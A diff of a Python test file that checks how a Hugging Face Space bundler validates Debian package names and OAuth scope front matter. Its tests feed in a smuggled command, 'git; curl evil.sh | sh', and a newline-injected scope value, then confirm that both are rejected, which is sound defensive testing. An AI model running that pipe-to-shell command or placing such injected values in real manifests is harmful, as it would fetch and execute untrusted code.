@@ -185,3 +185,20 @@ def test_a_space_image_installs_the_debian_packages_its_envs_name(tmp_path):
     assert install and {"chromium", "libatomic1"} <= set(install[0].split())
     with pytest.raises(ValueError, match="not a Debian package name"):
         Manifest(name="x", apt=["git; curl evil.sh | sh"])
+
+
+def test_a_space_offers_sign_in_with_the_oauth_scopes_its_envs_name(tmp_path, catalog: Path):
+    """Harbor's run card bills a visitor's Inference Providers calls to their own account: its
+    Space (and the catalog serving it) has "Sign in with Hugging Face" with inference-api; an
+    env naming no scope gets no sign-in, and a scope that is not a name is refused."""
+    from openenv.core.manifest import Manifest
+    from openenv.hub.bundle import env_bundle
+
+    env_bundle(ROOT / "envs" / "harbor_env", tmp_path / "harbor")
+    meta = _front_matter(tmp_path / "harbor")
+    assert meta["hf_oauth"] is True and meta["hf_oauth_scopes"] == ["inference-api"]
+    assert _front_matter(catalog)["hf_oauth_scopes"] == ["inference-api"]
+    env_bundle(ROOT / "envs" / "grid_world_env", tmp_path / "grid")
+    assert "hf_oauth" not in _front_matter(tmp_path / "grid")
+    with pytest.raises(ValueError, match="not an OAuth scope name"):
+        Manifest(name="x", hf_oauth_scopes=["inference-api\nsdk: gradio"])
